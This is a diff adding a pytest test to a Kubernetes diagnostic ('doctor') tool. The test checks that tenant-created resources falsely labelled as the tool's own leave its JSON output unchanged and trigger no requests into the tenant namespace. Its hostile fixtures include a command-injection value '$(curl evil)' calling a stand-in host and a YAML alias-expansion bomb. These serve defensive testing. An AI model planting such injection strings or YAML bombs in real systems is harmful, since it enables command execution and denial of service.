@@ -139,3 +139,44 @@ def test_a_secret_of_any_type_is_there_and_one_that_may_not_be_read_is_not_misse
     told = json.loads(capsys.readouterr().out)
     assert [problem for problem in told["problems"] if "Secret" in problem["where"]] == []
     assert any("namespaces/b/secrets" in sentence for sentence in told["unread"])
+
+
+def test_what_a_tenant_labels_as_ours_changes_no_answer(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rbac = "rbac.authorization.k8s.io/v1"
+    bindings = Resource(rbac, "clusterrolebindings", "ClusterRoleBinding", namespaced=False)
+    webhooks = Resource(
+        "admissionregistration.k8s.io/v1",
+        "mutatingwebhookconfigurations",
+        "MutatingWebhookConfiguration",
+        namespaced=False,
+    )
+    double = ApiDouble(
+        [
+            *(*RESOURCES, bindings, webhooks, Resource(rbac, "roles", "Role")),
+            Resource("apps/v1", "deployments", "Deployment"),
+        ]
+    )
+    version = ApiAnswer(200, {"major": "1", "minor": "36"})
+    double.fault = lambda request: version if request.path == "/version" else None
+    ours, theirs = _mounts("preflight", "tls"), _mounts("team", "$(curl evil)")
+    bound = {key: of for key, of in ours["metadata"].items() if key != "namespace"}
+    subjects = [{"kind": "ServiceAccount", "name": "w", "namespace": "preflight"}]
+    bomb = "a: &a [x, x]\nchecks: [{name: [*a, *a]}]"
+    kept = {"name": "kept", "namespace": "team", "labels": {"owner": "helm", "name": "team"}}
+    with double:
+        double.create("deployments", ours)
+        double.create("clusterrolebindings", {"metadata": bound, "subjects": subjects})
+        kubeconfig = write_kubeconfig(tmp_path / "config", double.url)
+        doctor(monkeypatch, kubeconfig, "-o", "json")
+        before = capsys.readouterr().out
+        double.create("deployments", theirs)
+        double.create("roles", {"metadata": theirs["metadata"]})
+        double.create("configmaps", {**theirs, "data": {"config.yaml": bomb}})
+        double.create("secrets", {"metadata": kept, "type": "helm.sh/release.v1"})
+        double.requests.clear()
+        doctor(monkeypatch, kubeconfig, "-o", "json")
+    assert capsys.readouterr().out == before
+    assert "preflight/w" in before
+    assert [sent.path for sent in double.requests if "/team/" in sent.path] == []
